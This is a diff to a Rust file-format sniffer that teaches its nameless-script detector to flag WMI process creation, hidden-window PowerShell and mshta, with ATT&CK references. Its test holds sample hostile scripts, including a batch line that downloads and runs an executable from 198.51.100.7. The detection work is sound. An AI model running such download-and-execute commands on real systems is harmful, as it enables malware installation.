@@ -278,11 +278,23 @@ fn detect_markup(bytes: &[u8]) -> Option<Format> {
 
 /// A script without a name to tell its language (an embedded file): a batch file
 /// that starts `@echo`, a Windows Script Host job, or a script that drives the
-/// Windows shell objects.
+/// Windows shell objects, starts processes through WMI (`winmgmts:`, MITRE
+/// ATT&CK T1047), runs PowerShell in a hidden window (`-w hidden`, T1564.003)
+/// or hands a page to `mshta` (T1218.005). OneNote droppers of 2023 carried
+/// such .bat, .cmd, .js, .vbs and .hta files (Proofpoint, "OneNote documents
+/// increasingly used to deliver malware", February 2023).
 pub fn detect_nameless_script(bytes: &[u8]) -> Option<Format> {
     let head = &bytes[..bytes.len().min(SNIFF_BYTES)];
     let trimmed = &head[head.iter().position(|b| !b.is_ascii_whitespace()).unwrap_or(head.len())..];
-    let markers: [&[u8]; 3] = [b"wscript.shell", b"shell.application", b"powershell -e"];
+    let markers: [&[u8]; 7] = [
+        b"wscript.shell",
+        b"shell.application",
+        b"powershell -e",
+        b"winmgmts:",
+        b"-w hidden",
+        b"-windowstyle hidden",
+        b"mshta ",
+    ];
     let script = starts_ignore_case(trimmed, b"@echo")
         || starts_ignore_case(trimmed, b"<job")
         || starts_ignore_case(trimmed, b"<package")
@@ -343,6 +355,17 @@ mod tests {
     fn cafebabe_is_told_apart() {
         assert_eq!(detect(&[0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 2]), Some(Format::MachOFat));
         assert_eq!(detect(&[0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52]), Some(Format::JavaClass));
+    }
+
+    #[test]
+    fn nameless_scripts_are_told_by_what_they_run() {
+        let batch = b"cmd /c start /min powershell -w hidden -c \"iwr http://198.51.100.7/a -o a.exe; start a.exe\"";
+        let wmi = b"GetObject(\"winmgmts:\\\\.\\root\\cimv2\").Get(\"Win32_Process\").Create(\"calc\")";
+        let hta = b"<script language=\"VBScript\">CreateObject(\"WScript.Shell\").Run \"calc\"</script>";
+        for script in [&batch[..], &wmi[..], &hta[..]] {
+            assert_eq!(detect_nameless_script(script), Some(Format::WindowsScript));
+        }
+        assert_eq!(detect_nameless_script(b"Meeting notes: hidden costs, windows, shell."), None);
     }
 
     #[test]
